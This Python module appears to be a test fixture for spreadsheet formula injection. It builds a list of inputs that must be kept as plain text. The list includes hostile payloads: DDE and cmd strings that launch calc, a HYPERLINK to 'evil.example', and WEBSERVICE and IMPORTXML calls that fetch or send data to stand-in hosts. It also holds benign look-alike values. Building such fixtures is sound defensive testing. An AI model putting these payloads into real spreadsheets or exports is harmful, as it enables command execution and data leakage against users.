"""What people type, or paste, that a spreadsheet program might compute: each must stay the text it is."""

_CALLS = ("1+1", "SUM(1;2)", 'HYPERLINK("http://evil.example","点这里")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://x")')
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫")
_BEFORE = ("", " ", "\t", "\r", "\n", "\u3000", "\u00a0", "\u200b", "\ufeff", "'", '"', "“", "\x0b")
PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(sign + _CALLS[0] for sign in _SIGNS),
            *(before + "=" + _CALLS[0] for before in _BEFORE),
            *("=" + call for call in _CALLS),
            *("@" + call for call in _CALLS[1:]),
            *("\t" + "路灯", "\r\n=1+1", "\n\n@SUM(1;2)", " \t =1+1", "\u200b\u200b＝1+1", "''=1+1", '""=1+1'),
            *("=1+1;=2+2", '";=1+1;"', '",=1+1,"', "路灯\n=1+1", "a\t=1+1", "=\n1+1", "= 1+1"),
            *(
                "{=1+1}",
                '=DDE("cmd";"/C calc";"x")',
                "=cmd|'/C calc'!'A1'",
                "+cmd|'/C calc'!A0",
                "-2+3+cmd|'/C calc'!A0",
            ),
            *('=IMPORTXML(CONCAT("http://x",A1),"//a")', "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", "%0A=1+1", "|calc"),
            *(
                "−1",
                "–1",
                "-",
                "+86 13900000001",
                "13900000001",
                "007",
                "1.38E+10",
                "482-917-036",
                "2026-03-01",
                "3/4",
                "TRUE",
            ),
            *("http://x.example", "mailto:a@x.example", "#REF!", "_x0041_", "]]>", "<b>&amp;", "𬭎䶮㙍", "𡐓" * 30),
        ]
    )
)
